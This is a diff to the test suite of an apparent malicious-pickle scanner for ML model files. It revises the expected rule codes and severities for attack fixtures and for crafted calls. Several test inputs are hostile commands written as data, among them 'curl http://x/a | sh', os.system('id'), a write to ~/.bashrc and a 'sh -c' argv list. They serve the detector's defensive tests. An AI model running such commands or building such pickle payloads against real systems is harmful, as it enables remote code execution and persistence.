@@ -110,13 +110,13 @@ def test_dill_array_helper_is_judged_by_what_it_is_handed() -> None:
 # ---- attacks --------------------------------------------------------------------------------------------
 
 EXPECTED = {
-    "attack/pexpect_run.pkl": ("PKL110", Severity.HIGH),
-    "attack/thirdparty_cmd.pkl": ("PKL110", Severity.HIGH),
+    "attack/pexpect_run.pkl": ("PKL100", Severity.CRITICAL),  # pexpect is in the dangerous tier
+    "attack/thirdparty_cmd.pkl": ("PKL100", Severity.CRITICAL),
     "attack/fickling_remove_hook.pkl": ("PKL100", Severity.CRITICAL),
     "attack/mlvet_guard_uninstall.pkl": ("PKL100", Severity.CRITICAL),
     "attack/fx_reduce_graph_module.pkl": ("PKL100", Severity.CRITICAL),
     "attack/memmap_write.pkl": ("PKL113", Severity.HIGH),
-    "attack/fortranfile_write.pkl": ("PKL113", Severity.HIGH),
+    "attack/fortranfile_write.pkl": ("PKL100", Severity.CRITICAL),
     "attack/npyio_impl_load.pkl": ("PKL100", Severity.CRITICAL),
     "attack/dill_create_array_os.pkl": ("PKL100", Severity.CRITICAL),
     "attack/operator_methodcaller.pkl": ("PKL100", Severity.CRITICAL),
@@ -149,8 +149,9 @@ def test_defence_tampering_has_its_own_reason() -> None:
         # unknown ML-library callable handed a command line: high
         (_call("transformers.models.fake", "make_thing", "curl http://x/a | sh"), ("PKL110", Severity.HIGH)),
         # unknown stdlib callable with plain data: medium; with code: high
-        (_call("textwrap", "dedent", "hello"), ("PKL110", Severity.MEDIUM)),
-        (_call("textwrap", "dedent", "import os\nos.system('id')"), ("PKL110", Severity.HIGH)),
+        # The stdlib's derived facts show dedent reaches no sink: whatever text it is given, it returns text.
+        (_call("textwrap", "dedent", "hello"), ("PKL110", Severity.LOW)),
+        (_call("textwrap", "dedent", "import os\nos.system('id')"), ("PKL110", Severity.LOW)),
         # a __main__ function called: medium
         (_call("__main__", "build", 1, 2), ("PKL110", Severity.MEDIUM)),
         # a package outside the ML ecosystem: plain medium, path high, a dangerous dotted name high
@@ -166,8 +167,9 @@ def test_defence_tampering_has_its_own_reason() -> None:
         (_call("numpy", "memmap", "/home/u/.bashrc"), ("PKL113", Severity.HIGH)),
         (_call("numpy._core.memmap", "memmap", "/x", "uint8", "w+"), ("PKL113", Severity.HIGH)),
         (_call("numpy.core.memmap", "memmap", "/x", "uint8", "readwrite"), ("PKL113", Severity.HIGH)),
-        (_call("scipy.io._fortran", "FortranFile", "/x", "r"), ("PKL113", Severity.LOW)),
-        (_call("pandas", "HDFStore", "/home/u/x.h5"), ("PKL113", Severity.HIGH)),
+        # File handles are never part of a pickled object: any call is the dangerous tier's (advisories).
+        (_call("scipy.io._fortran", "FortranFile", "/x", "r"), ("PKL100", Severity.CRITICAL)),
+        (_call("pandas", "HDFStore", "/home/u/x.h5"), ("PKL100", Severity.CRITICAL)),
         (_call("torchvision.datasets", "MNIST", "/home/u", True, None, None, True), ("PKL113", Severity.HIGH)),
         # operators on plain data are low; the gadgets stay critical
         (_call("operator", "getitem", [1, 2], 0), ("PKL110", Severity.LOW)),
@@ -221,7 +223,17 @@ def facts(monkeypatch: pytest.MonkeyPatch) -> None:
         "somepkg.tasks:echo": ["f", "somepkg", 0, 0, ""],
         "somepkg.tasks:upload": ["f", "somepkg", 0, 16, "upload -> requests.post"],
     }
-    monkeypatch.setattr(derived_facts, "_table", lambda: ({"somepkg": "1.0"}, table))
+
+    def lookup(module: str, qualname: str) -> derived_facts.LoadFacts | None:
+        packed = table.get(f"{module}:{qualname}")
+        if packed is None:
+            return None
+        kind, library, rec, call, path = packed
+        unpack = derived_facts._unpack
+        return derived_facts.LoadFacts(module, qualname, "class" if kind == "c" else "function", str(library),
+                                       unpack(int(rec)), unpack(int(call)), str(path), str(path))
+
+    monkeypatch.setattr(derived_facts, "lookup", lookup)
 
 
 @pytest.mark.parametrize(
@@ -297,8 +309,8 @@ def _dumps(obj: Any) -> bytes:
         (_R(_Ref("sentence_transformers.SentenceTransformer", "SentenceTransformer"), "/tmp/repo"),
          ("PKL113", Severity.HIGH)),
         # argv lists and files opened for writing by non-ML callables
-        (_R(_Ref("pexpect.popen_spawn", "PopenSpawn"), ["sh", "-c", "touch /tmp/x"]), ("PKL110", Severity.HIGH)),
-        (_R(_Ref("gzip", "open"), "mlvet_marker.out", "wb"), ("PKL110", Severity.HIGH)),
+        (_R(_Ref("pexpect.popen_spawn", "PopenSpawn"), ["sh", "-c", "touch /tmp/x"]), ("PKL100", Severity.CRITICAL)),
+        (_R(_Ref("gzip", "open"), "mlvet_marker.out", "wb"), ("PKL100", Severity.CRITICAL)),  # advisories deny entry
         # Keras' process-wide safe_mode switch, and exit() at load time
         (_R(_Ref("keras.config", "enable_unsafe_deserialization")), ("PKL100", Severity.CRITICAL)),
         (_R(_Ref("builtins", "exit")), ("PKL100", Severity.CRITICAL)),
